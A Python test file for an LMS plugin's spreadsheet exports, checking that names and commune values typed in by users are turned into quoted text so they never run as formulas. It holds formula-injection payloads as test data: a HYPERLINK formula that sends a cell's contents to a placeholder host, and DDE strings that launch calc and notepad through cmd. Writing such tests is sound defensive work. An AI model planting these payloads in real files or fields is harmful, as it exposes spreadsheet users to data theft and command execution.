"""Issue 10, finding 5: nothing a person typed runs as a formula when an export is opened in a spreadsheet.

The names come in the way an attacker would bring them: a roster import (names, communes that become group
names) and an LMS learner's full name; the files are opened as a reader would open them (csv, openpyxl,
zipfile)."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from lms_plugin.sanitize import spreadsheet_cell
from lms_plugin.services import accounts, cohorts, essays, exports, roster
from tests.services.marking_course import build

FORMULA = '=HYPERLINK("http://x/?d="&A1,"xem")'
LMS_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
COMMUNE = "+cmd|' /C notepad'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
ESSAY = ("Xã cần công khai quy trình một cửa và tiếp nhận hồ sơ lưu động ở các thôn xa để người dân "
         "không phải đi lại nhiều lần trong mùa mưa.")


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+84 912 345 678", "'+84 912 345 678"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"),
    ("Đặng Văn An", "Đặng Văn An"), ("", ""), ("a=b", "a=b"),
    (7, 7), (-1.5, -1.5), (0, 0), (None, None),
])
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote_and_numbers_stay_numbers(value, expected):
    assert spreadsheet_cell(value) == expected


@pytest.fixture
def hostile(session, tree):
    """The marking course plus two cadres with hostile names: one from a roster file (in a commune whose name
    is hostile too), one arriving from the LMS; both submit an essay."""
    course = build(session, tree)
    organiser = course.people["qt"]
    raw = ("Họ tên,Xã,Vai trò,Tên đăng nhập\n"
           f'"{FORMULA.replace(chr(34), chr(34) * 2)}",{COMMUNE},học viên,hostile\n').encode()
    result = roster.import_roster(session, organiser, course.cohort.id, roster.read_roster("ds.csv", raw))
    assert [c.username for c in result.created] == ["hostile"] and not result.rejected
    from_lms = accounts.learner_for_external_id(session, "edx-42", LMS_NAME)
    cohorts.add_member(session, course.cohort, from_lms, course.groups["tan-hoa"])
    for person in (accounts.get_user(session, "hostile"), from_lms):
        essays.submit_essay(session, person, course.assignment.id, ESSAY)
    session.commit()
    return course, result


def _assert_safe_text(cells: list, where: str) -> None:
    # only a number ("-1.5") may start with "-" or "+"
    assert not [c for c in cells if isinstance(c, str) and c.startswith(TRIGGERS) and not _number(c)], where


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_grades_csv_shows_the_hostile_names_as_text(session, hostile):
    course, _ = hostile
    table = exports.grade_table(session, course.people["gv"], course.cohort.id)
    parsed = list(csv.reader(io.StringIO(exports.grades_csv(table).decode("utf-8-sig"))))
    for row in parsed:
        _assert_safe_text(row, f"grades.csv row {row}")
    cells = {cell for row in parsed for cell in row}
    assert {"'" + FORMULA, "'" + LMS_NAME, "'" + COMMUNE} <= cells


def test_grades_xlsx_holds_no_formula_and_the_names_as_text(session, hostile):
    course, _ = hostile
    table = exports.grade_table(session, course.people["gv"], course.cohort.id)
    sheet = load_workbook(io.BytesIO(exports.grades_xlsx(table, "Bảng điểm"))).active
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(TRIGGERS), f"{cell.coordinate}: {cell.value!r}"
                texts.append(cell.value)
    assert {"'" + FORMULA, "'" + LMS_NAME, "'" + COMMUNE} <= set(texts)
    numbers = [c.value for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, (int, float))]
    assert numbers, "marks and word counts stay numbers"


def test_headers_are_neutralised_too(session, hostile):
    course, _ = hostile
    table = exports.grade_table(session, course.people["gv"], course.cohort.id,
                                gettext=lambda s: "=1+1" if s == "Họ tên" else s)
    header = next(csv.reader(io.StringIO(exports.grades_csv(table).decode("utf-8-sig"))))
    assert "'=1+1" in header
    sheet = load_workbook(io.BytesIO(exports.grades_xlsx(table))).active
    assert "'=1+1" in [c.value for c in sheet[1]] and all(c.data_type != "f" for c in sheet[1])


def test_the_essays_zip_manifest_shows_the_hostile_names_as_text(session, hostile):
    course, _ = hostile
    archive = zipfile.ZipFile(io.BytesIO(exports.essays_zip(session, course.people["gv"], course.cohort.id)))
    manifest = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
    for row in manifest:
        _assert_safe_text(row, f"manifest row {row}")
    names = {row[2] for row in manifest[1:]}
    assert {"'" + FORMULA, "'" + LMS_NAME} <= names
    assert {row[0] for row in manifest[1:]} <= set(archive.namelist())      # file names still match the files


def test_the_sign_in_link_list_shows_the_hostile_name_as_text(hostile):
    _, result = hostile
    parsed = list(csv.reader(io.StringIO(result.links_csv())))
    for row in parsed:
        _assert_safe_text(row, f"sign-in links row {row}")
    assert parsed[1][1] == "'" + FORMULA and parsed[1][3] == "'" + COMMUNE
